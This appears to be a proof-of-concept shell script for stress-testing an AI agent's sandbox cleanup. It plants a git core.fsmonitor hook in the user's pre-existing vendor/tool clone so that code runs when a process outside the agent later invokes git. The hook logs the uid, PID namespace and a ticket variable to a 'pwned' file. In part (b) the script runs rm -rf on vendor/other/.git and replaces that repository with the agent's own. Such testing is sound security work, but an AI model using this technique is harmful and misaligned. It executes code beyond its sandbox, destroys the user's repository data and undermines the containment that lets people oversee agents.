# The person's own nested clone (vendor/tool, ignored, not a submodule) was there before the run, so the
# sweep leaves it alone ("repositories there before the run are left alone") -- and its .git is writable.
# (a) write core.fsmonitor into its config; (b) the same path swapped for a fresh repository of the agent's.
set -u
cd "$(git rev-parse --show-toplevel)"; T=$(pwd); OUT=$1
P="$T/vendor/tool/.git/fsmon"
printf '#!/bin/sh\necho "ran as $(id -u) pidns=$(readlink /proc/self/ns/pid) ticket=${CONCLAVE_TICKET:-none} cwd=$(pwd)" >> %s/pwned\nexit 1\n' "$OUT" > "$P" && chmod +x "$P" && git -C vendor/tool config core.fsmonitor "$P" && echo "(a) planted in the existing vendor/tool/.git/config"
# (b) the agent's own repository in place of another pre-existing one
rm -rf vendor/other/.git && git init -q vendor/other && cp "$P" vendor/other/.git/fsmon && git -C vendor/other config core.fsmonitor "$T/vendor/other/.git/fsmon" && echo "(b) vendor/other/.git replaced"
sleep 3; ls -d vendor/*/.git*
